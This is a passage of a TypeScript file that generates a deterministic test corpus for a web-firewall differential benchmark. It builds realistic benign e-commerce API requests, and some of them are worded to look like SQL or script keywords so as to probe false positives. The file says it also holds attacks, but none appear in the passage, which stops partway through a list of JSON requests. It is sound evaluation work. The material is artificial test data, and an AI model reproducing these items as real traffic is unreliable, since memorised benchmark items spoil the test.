/**
 * The corpus of bench/waf/differential.ts: realistic benign API traffic and attacks written for
 * this check (none taken from the CRS regression tests), built deterministically in code: the same
 * records, bytes and ids on every run. Records have the shape ../shared/tools/waf-eval.mjs reads
 * (`node bench/waf/differential.ts --write-corpus FILE` writes them as JSONL for it).
 *
 * Every request is valid HTTP/1.1 that nginx and Node's parser both accept: request targets are
 * ASCII without spaces (payloads are percent-encoded where a browser or client library would
 * encode them), header values are printable ASCII, bodies carry a Content-Length (or are chunked).
 */

export interface DiffRecord {
  id: string;
  category: string;
  expect: 'attack' | 'benign';
  method: string;
  uri: string;
  /** in order; waf-eval adds Content-Length when a body is present and none is given */
  headers: Record<string, string>;
  body: string;
  /** binary bodies (waf-eval's field): wins over `body` */
  body_b64?: string;
  /** false: send exactly these headers (no Content-Length added), e.g. for a chunked body */
  autocomplete?: boolean;
}

// ---------------------------------------------------------------- deterministic choices
function mulberry32(seed: number): () => number {
  let t = seed >>> 0;
  return () => {
    t += 0x6d2b79f5;
    let x = Math.imul(t ^ (t >>> 15), 1 | t);
    x ^= x + Math.imul(x ^ (x >>> 7), 61 | x);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

class Picker {
  private readonly rnd: () => number;
  constructor(seed: number) { this.rnd = mulberry32(seed); }
  int(n: number): number { return Math.floor(this.rnd() * n); }
  pick<T>(xs: readonly T[]): T { return xs[this.int(xs.length)]; }
  hex(n: number): string { let s = ''; for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(16)]; return s; }
  uuid(): string { return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-${'89ab'[this.int(4)]}${this.hex(3)}-${this.hex(12)}`; }
  b64url(n: number): string { const a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'; let s = ''; for (let i = 0; i < n; i++) s += a[this.int(64)]; return s; }
}

const b64url = (s: string) => Buffer.from(s, 'utf8').toString('base64url');

/** Percent-encode like a browser's form encoder / URLSearchParams (space = '+'). */
export function formEncode(params: Array<[string, string]>): string {
  return new URLSearchParams(params).toString();
}

/** Percent-encode like encodeURIComponent but keeping what clients commonly leave raw in a query. */
function qv(s: string): string {
  return encodeURIComponent(s).replace(/%2C/g, ',').replace(/%3A/g, ':').replace(/%40/g, '@').replace(/%2F/g, '/');
}
const qs = (params: Array<[string, string]>) => params.map(([k, v]) => `${qv(k)}=${qv(v)}`).join('&');

// ---------------------------------------------------------------- header profiles
const UA = {
  chrome: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  firefox: 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0',
  safari: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  iphone: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  android: 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile Safari/537.36',
  curl: 'curl/8.5.0',
  okhttp: 'okhttp/4.12.0',
  iosApp: 'ShopApp/5.2.1 (iPhone; iOS 17.4.1; Scale/3.00)',
  dart: 'Dart/3.3 (dart:io)',
  axios: 'axios/1.7.2',
  pyRequests: 'python-requests/2.32.3',
  go: 'Go-http-client/1.1',
  awsSdk: 'aws-sdk-js/3.598.0 ua/2.0 os/linux#6.5.0 lang/js md/nodejs#20.15.0 api/s3#3.598.0',
  postman: 'PostmanRuntime/7.39.0',
  java: 'Java/17.0.11',
  edge: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68',
};

const HOST = 'api.shop.example';
const ORIGIN = 'https://www.shop.example';

function jwt(p: Picker): string {
  const header = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: p.hex(16) }));
  const payload = b64url(JSON.stringify({ iss: 'https://auth.shop.example/', sub: `auth0|${p.hex(24)}`, aud: ['https://api.shop.example'], iat: 1719830000 + p.int(100000), exp: 1719916400 + p.int(100000), scope: 'openid profile email read:orders write:orders', azp: p.b64url(32) }));
  return `${header}.${payload}.${p.b64url(342)}`;
}

/** Headers of one client kind, in the order that client sends them. */
function profile(p: Picker, kind: 'browser' | 'spa' | 'curl' | 'mobile' | 'sdk' | 'server'): Record<string, string> {
  switch (kind) {
    case 'browser': return {
      Host: HOST, 'User-Agent': p.pick([UA.chrome, UA.firefox, UA.safari, UA.edge, UA.android, UA.iphone]),
      Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
      'Accept-Language': p.pick(['en-US,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.8', 'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7', 'es-419,es;q=0.9', 'ja,en-US;q=0.9,en;q=0.8']),
      'Accept-Encoding': 'gzip, deflate, br, zstd',
      Referer: `${ORIGIN}/${p.pick(['', 'products', 'cart', 'account/orders', 'search?q=shoes'])}`,
      Cookie: `sid=${p.b64url(32)}; csrftoken=${p.hex(32)}; _ga=GA1.2.${1000000000 + p.int(899999999)}.${1719000000 + p.int(900000)}; theme=${p.pick(['dark', 'light'])}`,
      'Upgrade-Insecure-Requests': '1',
      'Sec-Fetch-Dest': 'document', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Site': 'same-origin',
    };
    case 'spa': return {
      Host: HOST, 'User-Agent': p.pick([UA.chrome, UA.firefox, UA.safari, UA.edge]),
      Accept: 'application/json, text/plain, */*', 'Accept-Language': p.pick(['en-US,en;q=0.9', 'en-GB,en;q=0.9', 'nl-NL,nl;q=0.9,en;q=0.8']),
      'Accept-Encoding': 'gzip, deflate, br',
      Authorization: `Bearer ${jwt(p)}`,
      Origin: ORIGIN, Referer: `${ORIGIN}/${p.pick(['dashboard', 'account/settings', 'orders/recent', 'products/new'])}`,
      'X-Request-Id': p.uuid(),
      'Sec-Fetch-Dest': 'empty', 'Sec-Fetch-Mode': 'cors', 'Sec-Fetch-Site': 'same-site',
    };
    case 'curl': return { Host: HOST, 'User-Agent': UA.curl, Accept: '*/*' };
    case 'mobile': return {
      Host: HOST, 'User-Agent': p.pick([UA.iosApp, UA.okhttp, UA.dart]), Accept: 'application/json',
      'Accept-Language': p.pick(['en-US', 'pt-BR', 'de-DE', 'ko-KR']), 'Accept-Encoding': 'gzip',
      Authorization: `Bearer ${jwt(p)}`, 'X-App-Version': `5.${p.int(9)}.${p.int(20)}`, 'X-Device-Id': p.uuid(),
    };
    case 'sdk': return {
      Host: HOST, 'User-Agent': p.pick([UA.axios, UA.pyRequests, UA.go, UA.awsSdk, UA.postman, UA.java]),
      Accept: 'application/json', 'Accept-Encoding': 'gzip, deflate',
      Authorization: p.pick([`Bearer ${jwt(p)}`, `Basic ${Buffer.from(`svc-reports:${p.b64url(20)}`).toString('base64')}`, `ApiKey ${p.b64url(40)}`]),
      'X-Request-Id': p.uuid(), Connection: 'keep-alive',
    };
    case 'server': return {
      Host: HOST, 'User-Agent': p.pick([UA.go, UA.java, 'Stripe/1.0 (+https://stripe.com/docs/webhooks)', 'GitHub-Hookshot/a1b2c3d']),
      Accept: '*/*', 'X-Forwarded-For': `203.0.113.${p.int(250) + 1}`, 'X-Request-Id': p.uuid(),
    };
  }
}

const json = (p: Picker, kind: 'spa' | 'mobile' | 'sdk' | 'server' | 'curl') => ({ ...profile(p, kind), 'Content-Type': p.pick(['application/json', 'application/json', 'application/json; charset=utf-8']) });
const form = (p: Picker) => ({ ...profile(p, 'browser'), 'Content-Type': 'application/x-www-form-urlencoded', Origin: ORIGIN });

// ---------------------------------------------------------------- benign
const PROSE = [
  'Please select the union-made shirts from the drop-down list, then click "Order by size".',
  "I'd like to drop my subscription at the end of the month; where do I update billing?",
  'The script alerts the on-call engineer when exec time exceeds 5 s, and then retries.',
  "Great shoes! I ordered a size up from what I normally wear and they fit perfectly. Would buy again.",
  'Where can I find the invoice for order #10482? My accountant needs it by Friday.',
  'Delivery was late (3 days) but support sorted it out quickly. 4/5 stars.',
  'Select all that apply: fast shipping, good packaging, friendly support.',
  "We're a union of small bakeries; we need 20 trays from your wholesale catalog, delivered where the old ones were.",
  'Can you drop the price if I order 50 units or more? We would pay upfront.',
  'Our team uses this to update tables from a spreadsheet every morning; it works well.',
  "It's fine, but the app crashes when I rotate the screen on the checkout page.",
  "My name is O'Connor and the form keeps telling me the last name is invalid.",
  'The color is closer to navy than to the royal blue shown in the photo.',
  "Use the coupon code at checkout, then apply the gift card; the order of the two doesn't matter.",
  'Executive summary: revenue grew 12% year over year, mostly from the EU region.',
  'Is this jacket waterproof or only water-resistant? I live in Seattle and it rains a lot.',
  'I wanted to alert you that the link in your newsletter points to a 404 page.',
  'Please delete my account and all associated data, as allowed under GDPR Article 17.',
  'Bought it for my daughter -- she loves it & wears it every day :)',
  "From what I've read, the 2024 model has a better battery than the 2023 one. Is that right?",
  'Ordered on 2024-06-01, shipped on 2024-06-03, arrived 2024-06-07. Tracking said "in transit" for days.',
  'Where do I change the e-mail address on file? The old one (jane.doe@example.org) no longer works.',
  'Typo on the product page: "recieve" should be "receive".',
  "Hi! Could you add a 'notes' field to the order form? We'd use it for gate codes.",
  'Not sure if this is a bug or a feature: sorting by price, then by rating, resets the filters.',
  'The manual says to hold the power button for 10 seconds; that did not reset it.',
  'Kudos to Maria from support, who fixed my issue in five minutes.',
  "Size chart (EU 42 = US 9) doesn't match the box, which says US 8.5.",
  'Tried again today, same result: the page loads, then shows "Something went wrong".',
  'We are evaluating your API for our internal tools; is there a sandbox with test data?',
];

const MARKDOWN = [
  '## Release notes\n\n- Fixed the `SELECT` query builder when using `ORDER BY` on joined tables\n- See https://docs.shop.example/guide?tab=sql#joins\n- Thanks @jdoe for the report!',
  '# Setup\n\n1. Install: `npm install @shop/sdk`\n2. Configure your key in `.env`\n3. Run `npx shop init`\n\n> Note: keys are scoped per project.',
  "**Steps to reproduce**\n\n1. Open the cart\n2. Change quantity to 0\n3. Click *Update*\n\n**Expected:** item removed\n**Actual:** quantity shows -1",
  "Here's the snippet from our client:\n\n```js\nconst total = items.reduce((sum, item) => sum + item.price * item.qty, 0);\nconsole.log(`Total: ${total.toFixed(2)}`);\n```",
  'Table of sizes:\n\n| EU | US | UK |\n|----|----|----|\n| 40 | 7  | 6  |\n| 42 | 9  | 8  |',
  'Links: [docs](https://docs.shop.example/api), [status](https://status.shop.example) and the [changelog](https://shop.example/changelog#v5).',
  '```python\nimport requests\nr = requests.get("https://api.shop.example/v2/orders", params={"status": "open"})\nprint(r.json())\n```',
  "Checklist:\n- [x] update the README\n- [ ] bump the version\n- [ ] tag the release (v5.2.1)",
];

const SEARCHES = [
  'running shoes', 'union station parking', 'drop-off points near me', 'script writing course', 'order by date', 'where is my order',
  'select comfort mattress', "women's rain jacket", 'usb-c to hdmi adapter', 'best coffee beans 2024', 'kids backpack', 'iphone 15 case',
  'gift ideas for dad', '4k monitor 27"', 'organic cotton t-shirt', 'how to return an item', 'table lamp', 'alert sound settings',
  'exec chair', 'from scratch baking kit', 'c# programming book', 'AT&T sim card', 'rock & roll vinyl', 'café au lait mug',
  'Müller yogurt', '東京 guide book', 'size 10.5', 'a/b testing handbook', '50% off', 'update firmware', 'delete account',
];

const CITIES = ['Berlin', 'São Paulo', 'New York', 'Zürich', 'Tokyo', 'Lagos', 'Montréal', 'Kraków', 'Austin', 'Pune'];
const NAMES = ['Jane Doe', "Liam O'Brien", 'Zoë Saldaña', 'Nguyễn Văn An', 'Fatima Al-Sayed', 'Jean-Luc Picard', 'Ana María López', 'Björn Ålund', 'Chen Wei', 'Ravi Shankar'];
const EMAILS = ['jane.doe@example.com', 'liam+orders@example.org', 'zoe_s@mail.example.net', 'an.nguyen@example.vn', 'f.alsayed@example.ae', 'jl.picard@starfleet.example', 'ana.lopez@example.mx', 'bjorn@example.se', 'chen.wei@example.cn', 'ravi@example.in'];

function benignGets(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  const add = (category: string, uri: string, headers: Record<string, string>) => out.push({ id: '', category, expect: 'benign', method: 'GET', uri, headers, body: '' });
  const kinds = ['browser', 'spa', 'curl', 'mobile', 'sdk'] as const;
  for (let i = 0; i < SEARCHES.length; i++) {
    const params: Array<[string, string]> = [['q', SEARCHES[i]], ['page', String(1 + p.int(20))], ['per_page', p.pick(['20', '50', '100'])]];
    if (i % 3 === 0) params.push(['sort', p.pick(['-created_at', 'price', 'price,-rating', 'relevance', 'name:asc'])]);
    if (i % 4 === 1) params.push(['category', p.pick(['shoes', 'home & garden', 'books/fiction', 'electronics'])]);
    if (i % 5 === 2) params.push(['in_stock', 'true'], ['min_price', '9.99'], ['max_price', '149.00']);
    // a browser form submit encodes spaces as '+', client libraries as %20
    const uri = i % 2 === 0 ? `/api/v2/products/search?${formEncode(params)}` : `/api/v2/products/search?${qs(params)}`;
    add('benign-get-search', uri, profile(p, kinds[i % kinds.length]));
  }
  const paths = [
    () => `/api/v2/orders/${p.uuid()}`,
    () => `/api/v2/orders?status=${p.pick(['open', 'shipped', 'cancelled'])}&created_after=2024-0${1 + p.int(9)}-1${p.int(10)}T00:00:00Z&created_before=2024-12-31T23:59:59.999Z&limit=25`,
    () => `/api/v2/orders?created_after=${encodeURIComponent('2024-06-01T08:30:00+02:00')}&fields=id,status,total,currency`,
    () => `/api/v2/users/${p.uuid()}/addresses?include=geo&fields[address]=line1,city,postcode`,
    () => `/api/v2/users?email=${encodeURIComponent(p.pick(EMAILS))}`,
    () => `/api/v2/users?email=${p.pick(EMAILS)}&active=true`,
    () => `/api/v2/stores/nearby?lat=52.52${p.int(100)}&lng=13.40${p.int(100)}&radius_km=5&open_now=1`,
    () => `/api/v2/products/${1000 + p.int(90000)}/reviews?sort=-helpful&rating[gte]=4&page[size]=10&page[number]=${1 + p.int(5)}`,
    () => `/api/v2/products?ids[]=${p.int(999)}&ids[]=${p.int(999)}&ids[]=${p.int(999)}&include=variants,images`,
    () => `/api/v2/products?filter[brand]=${encodeURIComponent(p.pick(['Levi\'s', 'H&M', 'Dr. Martens', 'Ben & Jerry\'s', 'L\'Oréal']))}&filter[color]=blue`,
    () => `/api/v2/cart?currency=${p.pick(['EUR', 'USD', 'GBP', 'JPY'])}&locale=${p.pick(['en-US', 'de-DE', 'fr-CA', 'pt-BR'])}`,
    () => `/api/v2/orders?cursor=${Buffer.from(JSON.stringify({ id: p.int(99999), ts: 1719830000 + p.int(1000) })).toString('base64').replace(/=+$/, '')}&limit=50`,
    () => `/api/v2/orders?cursor=${encodeURIComponent(Buffer.from(`created_at:2024-06-0${1 + p.int(9)}|id:${p.int(99999)}`).toString('base64'))}`,
    () => `/api/v2/shipments/track?carrier=${p.pick(['ups', 'dhl', 'fedex', 'usps'])}&tracking=1Z${p.hex(16).toUpperCase()}`,
    () => `/api/v2/geo/cities?name=${encodeURIComponent(p.pick(CITIES))}&country=${p.pick(['DE', 'BR', 'US', 'CH', 'JP'])}`,
    () => `/auth/callback?code=${p.b64url(43)}&state=${p.b64url(22)}&session_state=${p.uuid()}`,
    () => `/oauth/authorize?response_type=code&client_id=${p.hex(24)}&redirect_uri=${encodeURIComponent('https://www.shop.example/auth/callback')}&scope=${encodeURIComponent('openid profile email')}&state=${p.b64url(16)}&code_challenge=${p.b64url(43)}&code_challenge_method=S256`,
    () => `/api/v2/links/preview?url=${encodeURIComponent(`https://blog.shop.example/posts/${p.int(500)}-summer-sale?utm_source=newsletter&utm_medium=email`)}`,
    () => `/login?next=${encodeURIComponent('/account/orders?tab=returns')}`,
    () => `/api/v2/reports/sales?from=2024-01-01&to=2024-03-31&group_by=week&metrics=revenue,orders,aov&tz=${encodeURIComponent('America/New_York')}`,
    () => `/api/v2/search/suggest?prefix=${encodeURIComponent(p.pick(['sel', 'uni', 'dro', 'scr', 'ale', 'exe', 'whe', 'ord']))}`,
    () => `/static/js/app.${p.hex(8)}.js`,
    () => `/static/css/main.${p.hex(8)}.css?v=${p.int(100)}`,
    () => `/images/products/${p.int(9999)}/main@2x.webp`,
    () => `/api/v2/export/orders.csv?columns=id,date,total&delimiter=${encodeURIComponent(';')}`,
    () => `/api/v2/events?since=${1719830000000 + p.int(1e6)}&types=order.created,order.updated`,
    () => `/api/v2/invoices/INV-2024-${String(p.int(99999)).padStart(5, '0')}.pdf`,
    () => `/.well-known/openid-configuration`,
    () => `/health?verbose=1`,
    () => `/api/v2/feature-flags?context=${encodeURIComponent(JSON.stringify({ userId: p.int(99999), plan: 'pro', country: 'DE' }))}`,
    () => `/api/v2/products/search?q=${encodeURIComponent('"exact phrase" -excluded +required')}`,
    () => `/api/v2/messages?thread=${p.uuid()}&before=${p.uuid()}`,
    () => `/api/v2/users/me/notifications?unread=true&type=order,promo`,
    () => `/docs/api/v2/#/orders/listOrders`,
    () => `/api/v2/products?sort=price&order=desc&where=in_stock`,
    () => `/api/v2/calendar/slots?date=${encodeURIComponent('06/14/2024')}&duration=PT30M`,
    () => `/api/v2/translate?text=${encodeURIComponent('Where is the train station?')}&from=en&to=de`,
    () => `/api/v2/posts?tag=${encodeURIComponent('c++')}&tag=rust&tag=go`,
    () => `/api/v2/files?path=${encodeURIComponent('invoices/2024/06/INV-00042.pdf')}`,
    () => `/api/v2/recipes?q=${encodeURIComponent('mac & cheese')}&diet=vegetarian&time_max=30`,
    () => `/api/v2/locations/${encodeURIComponent('Saint-Étienne')}/weather`,
    () => `/api/v2/phone/validate?number=${encodeURIComponent('+1 (555) 010-9999')}`,
    () => `/api/v2/products;jsessionid=${p.hex(32).toUpperCase()}?id=${p.int(9999)}`,
    () => `/api/v2/users/${p.int(99999)}?expand=orders.items.product&select=id,name,email`,
    () => `/api/v2/analytics/query?metric=pageviews&filter=${encodeURIComponent('country==DE;device==mobile')}&dimension=date`,
    () => `/api/v2/chat/history?channel=${encodeURIComponent('#general')}&limit=100`,
    () => `/api/v2/coupons/validate?code=SUMMER-2024&cart_total=${(10 + p.int(300)).toFixed(2)}`,
    () => `/api/v2/search?q=${encodeURIComponent("don't stop me now")}&type=track`,
    () => `/api/v2/search?q=${encodeURIComponent('1=1 kit (pack of 2)')}&type=product`,
  ];
  for (let i = 0; i < paths.length; i++) add('benign-get', paths[i](), profile(p, kinds[(i + 2) % kinds.length]));
  // conditional and ranged GETs, a HEAD, a CORS preflight
  add('benign-get', `/api/v2/catalog?version=${p.int(50)}`, { ...profile(p, 'spa'), 'If-None-Match': `W/"${p.hex(16)}"`, 'If-Modified-Since': 'Mon, 01 Jul 2024 08:00:00 GMT' });
  add('benign-get', `/downloads/catalog-2024.pdf`, { ...profile(p, 'browser'), Range: 'bytes=0-1048575' });
  add('benign-get', `/api/v2/orders?status=open`, { ...profile(p, 'sdk'), 'Cache-Control': 'no-cache', Pragma: 'no-cache' });
  add('benign-get', `/api/v2/me`, { ...profile(p, 'spa'), Cookie: `prefs=${encodeURIComponent(JSON.stringify({ lang: 'en', currency: 'EUR', compact: true }))}; sid=${p.b64url(32)}` });
  add('benign-get', `/api/v2/me`, { ...profile(p, 'browser'), Cookie: `cart="${p.hex(12)}:3:EUR"; returning_visitor=1; last_search=running+shoes` });
  add('benign-get', `/api/v2/me`, { ...profile(p, 'spa'), 'X-Forwarded-For': '198.51.100.23, 10.0.0.12', 'X-Forwarded-Proto': 'https', 'X-Real-IP': '198.51.100.23' });
  add('benign-get', `/`, { Host: HOST, 'User-Agent': UA.curl, Accept: '*/*' });
  add('benign-get', `/api/v2/me`, { ...profile(p, 'spa'), 'Accept-Language': 'zh-CN,zh;q=0.9,zh-TW;q=0.8,en-US;q=0.7,en;q=0.6', DNT: '1', 'Sec-CH-UA': '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"', 'Sec-CH-UA-Mobile': '?0', 'Sec-CH-UA-Platform': '"Windows"' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'HEAD', uri: `/api/v2/products/${p.int(9999)}`, headers: profile(p, 'curl'), body: '' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'OPTIONS', uri: '/api/v2/orders', headers: { Host: HOST, 'User-Agent': UA.chrome, Accept: '*/*', 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'authorization,content-type,x-request-id', Origin: ORIGIN, Referer: `${ORIGIN}/checkout` }, body: '' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'DELETE', uri: `/api/v2/cart/items/${p.uuid()}`, headers: profile(p, 'spa'), body: '' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'DELETE', uri: `/api/v2/sessions/current`, headers: profile(p, 'mobile'), body: '' });
  return out;
}

function benignJson(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  const add = (category: string, method: string, uri: string, headers: Record<string, string>, body: unknown) =>
    out.push({ id: '', category, expect: 'benign', method, uri, headers, body: typeof body === 'string' ? body : JSON.stringify(body) });
  const kinds = ['spa', 'mobile', 'sdk'] as const;
  for (let i = 0; i < PROSE.length; i++) {
    const k = kinds[i % 3];
    switch (i % 5) {
      case 0: add('benign-json', 'POST', `/api/v2/products/${1000 + p.int(9000)}/reviews`, json(p, k), { rating: 1 + p.int(5), title: PROSE[(i + 7) % PROSE.length].slice(0, 40), body: PROSE[i], recommend: true, images: [] }); break;
      case 1: add('benign-json', 'POST', '/api/v2/support/tickets', json(p, k), { subject: 'Question about my order', description: PROSE[i], priority: p.pick(['low', 'normal', 'high']), contact: { name: p.pick(NAMES), email: p.pick(EMAILS) }, tags: ['web', 'order'] }); break;
      case 2: add('benign-json', 'PATCH', `/api/v2/orders/${p.uuid()}`, json(p, k), { note: PROSE[i], gift: { wrap: true, message: 'Happy birthday, Sam!' } }); break;
      case 3: add('benign-json', 'PUT', `/api/v2/users/me/profile`, json(p, k), { displayName: p.pick(NAMES), bio: PROSE[i], website: 'https://example.org/~jane', location: p.pick(CITIES), social: { twitter: '@jane_doe', github: 'janedoe' } }); break;
      case 4: add('benign-json', 'POST', `/api/v2/feedback`, json(p, k), { page: '/checkout', message: PROSE[i], nps: p.int(11), meta: { appVersion: '5.2.1', os: 'iOS 17.4', locale: 'en_US' } }); break;
    }
  }
  for (const md of MARKDOWN) add('benign-json-markdown', 'POST', '/api/v2/projects/42/issues', json(p, 'spa'), { title: md.split('\n')[0].replace(/^#+\s*/, ''), body: md, labels: ['docs'], assignees: ['jdoe'] });
  // orders, carts, accounts: the everyday bulk of an API
  for (let i = 0; i < 25; i++) {
    const items = Array.from({ length: 1 + p.int(4) }, () => ({ sku: `SKU-${p.hex(6).toUpperCase()}`, name: p.pick(['Trail Runner 3', 'Rain Jacket (navy)', 'USB-C cable, 2 m', "Kids' backpack", 'Ceramic mug 350 ml', 'Desk lamp "Luna"']), qty: 1 + p.int(3), price: Number((5 + p.int(20000) / 100).toFixed(2)) }));
    add('benign-json-order', 'POST', '/api/v2/orders', json(p, kinds[i % 3]), {
      customer: { name: p.pick(NAMES), email: p.pick(EMAILS), phone: `+49 30 ${1000000 + p.int(8999999)}` },
      shipping: { line1: `${1 + p.int(200)} ${p.pick(['Main St', 'Rue de la Paix', 'Hauptstraße', 'Calle Mayor', 'Baker Street'])}`, line2: p.pick(['', 'Apt. 4B', 'c/o ACME Corp.', 'Floor 3, Suite 300']), city: p.pick(CITIES), postcode: String(10000 + p.int(89999)), country: p.pick(['DE', 'US', 'FR', 'BR', 'JP']) },
      items, currency: 'EUR', coupon: i % 4 === 0 ? 'WELCOME10' : null, giftMessage: i % 5 === 0 ? "Congrats on the new job! Don't work too hard :)" : undefined,
      placedAt: `2024-0${1 + p.int(9)}-${String(1 + p.int(28)).padStart(2, '0')}T${String(p.int(24)).padStart(2, '0')}:${String(p.int(60)).padStart(2, '0')}:00.000Z`,
      consent: { marketing: p.int(2) === 1, terms: true }, clientRef: p.uuid(),
    });
  }
  const misc: Array<[string, string, unknown]> = [
    ['POST', '/api/v2/auth/login', { email: 'jane.doe@example.com', password: 'correct horse battery staple', remember: true }],
    ['POST', '/api/v2/auth/login', { username: 'liam.obrien', password: "O'Brien#2024!" }],
    ['POST', '/api/v2/auth/register', { email: 'zoe_s@mail.example.net', password: 'P@ssw0rd-Is-Long-Enough', name: 'Zoë Saldaña', acceptTerms: true }],
    ['POST', '/api/v2/auth/password/reset', { email: 'f.alsayed@example.ae' }],
    ['POST', '/api/v2/auth/token', { grant_type: 'refresh_token', refresh_token: 'v1.M2Y5YzQ0ZTktYjA4Zi00ZjU2LTk1ZjEtMzk2YmE5ZmQ4ZTQy' }],
    ['PUT', '/api/v2/users/me/settings', { notifications: { email: true, sms: false, push: true }, language: 'de', timezone: 'Europe/Berlin', theme: 'system' }],
    ['PATCH', '/api/v2/users/me', { phone: '+1 (555) 010-9999', birthday: '1990-04-12' }],
    ['POST', '/api/v2/webhooks', { url: 'https://hooks.partner.example/shop/events?token=abc123', events: ['order.created', 'order.refunded'], secret: 'whsec_4f9a8b7c6d5e' }],
    ['POST', '/api/v2/search', { query: 'select comfort', filters: { category: ['beds', 'mattresses'], price: { gte: 100, lte: 2000 } }, sort: [{ field: 'price', order: 'asc' }], page: { size: 24, number: 1 } }],
    ['POST', '/api/v2/search', { query: 'union jack flag', filters: { size: ['90x150 cm'] }, sort: [{ field: 'relevance' }] }],
    ['POST', '/api/v2/search', { q: 'where to buy', where: { country: 'DE', city: 'Berlin' }, orderBy: 'distance', from: 0, size: 20 }],
    ['POST', '/api/v2/analytics/events', { events: Array.from({ length: 6 }, (_, j) => ({ name: ['page_view', 'add_to_cart', 'begin_checkout', 'purchase', 'search', 'select_item'][j], ts: 1719830000000 + j * 1234, props: { path: ['/', '/p/123', '/checkout', '/thanks', '/search?q=mug', '/p/9'][j], referrer: 'https://www.google.com/' } })) }],
    ['POST', '/api/v2/graphql', { operationName: 'GetOrder', query: 'query GetOrder($id: ID!) { order(id: $id) { id status total { amount currency } items { sku qty } } }', variables: { id: 'ord_8f2k3' } }],
    ['POST', '/api/v2/graphql', { query: 'mutation UpdateCart($input: CartInput!) { updateCart(input: $input) { id itemCount } }', variables: { input: { items: [{ sku: 'SKU-1', qty: 2 }] } } }],
    ['POST', '/api/v2/payments/intents', { amount: 4999, currency: 'eur', payment_method_types: ['card', 'sepa_debit'], metadata: { order_id: 'ord_8f2k3', channel: 'web' }, description: 'Order #10482 from www.shop.example' }],
    ['POST', '/api/v2/webhooks/stripe', { id: 'evt_1PXyz', object: 'event', type: 'payment_intent.succeeded', data: { object: { id: 'pi_3PXyz', amount: 4999, status: 'succeeded', receipt_email: 'jane.doe@example.com' } }, livemode: false }],
    ['POST', '/api/v2/webhooks/github', { ref: 'refs/heads/main', commits: [{ id: 'a1b2c3d4', message: 'Fix: select the right union member when dropping old rows\n\nCloses #42', author: { name: 'Jane Doe', email: 'jane@example.com' } }], repository: { full_name: 'shop/api' } }],
    ['POST', '/api/v2/uploads/presign', { filename: 'Quarterly Report (Q2 2024).xlsx', contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', size: 482133 }],
    ['POST', '/api/v2/notes', { text: 'Meeting notes 06/14:\n- ship v5.2 on Monday\n- Ana to check the EU VAT rounding (0.5 cent cases)\n- next sync: Thu 10:00 CET', pinned: false }],
    ['POST', '/api/v2/translations', { key: 'checkout.error.card_declined', values: { en: "Your card was declined. Please try another one.", de: 'Ihre Karte wurde abgelehnt. Bitte versuchen Sie es mit einer anderen.', fr: "Votre carte a été refusée. Veuillez en essayer une autre.", ja: 'カードが拒否されました。別のカードをお試しください。' } }],
    ['POST', '/api/v2/emails/templates', { name: 'order-shipped', subject: 'Your order {{order.number}} is on its way', html: '<p>Hi {{customer.firstName}},</p><p>Your order has shipped. <a href="https://www.shop.example/track/{{order.id}}">Track it here</a>.</p>' }],
    ['POST', '/api/v2/cms/pages', { slug: 'about-us', title: 'About us', blocks: [{ type: 'heading', text: 'Who we are' }, { type: 'paragraph', text: 'Founded in 2012, we sell shoes & outdoor gear from our shop in Kraków.' }, { type: 'image', src: '/images/team.jpg', alt: 'Our team in 2023' }] }],
    ['POST', '/api/v2/devices', { platform: 'ios', token: 'f3b2c1d0e9a8'.repeat(5), appVersion: '5.2.1', model: 'iPhone15,3', osVersion: '17.4.1' }],
    ['PUT', '/api/v2/carts/current', { items: [{ sku: 'SKU-7F3A', qty: 2 }, { sku: 'SKU-19BC', qty: 1 }], currency: 'EUR' }],
    ['PATCH', '/api/v2/products/10482', { price: 39.9, compareAt: 49.9, stock: 120, attributes: { color: 'navy', size: ['S', 'M', 'L'] } }],
    ['POST', '/api/v2/reports', { name: 'Weekly sales by region', schedule: '0 8 * * MON', recipients: ['ops@example.com'], format: 'csv', filters: { region: ['EU', 'NA'], minTotal: 0 } }],
    ['POST', '/api/v2/rules', { name: 'Free shipping over 50', condition: 'cart.total >= 50 && cart.country in ["DE","AT"]', action: 'shipping.free' }],
    ['POST', '/api/v2/batch', [{ op: 'update', id: 1, price: 10 }, { op: 'update', id: 2, price: 12.5 }, { op: 'delete', id: 3 }]],
    ['POST', '/api/v2/geo/route', { waypoints: [[52.52, 13.405], [48.137, 11.575], [50.11, 8.682]], mode: 'driving', avoid: ['tolls'] }],
    ['POST', '/api/v2/chat/messages', { channel: 'support', text: "hey, quick question -- can i change the delivery address after the order's been placed? thx!", attachments: [] }],
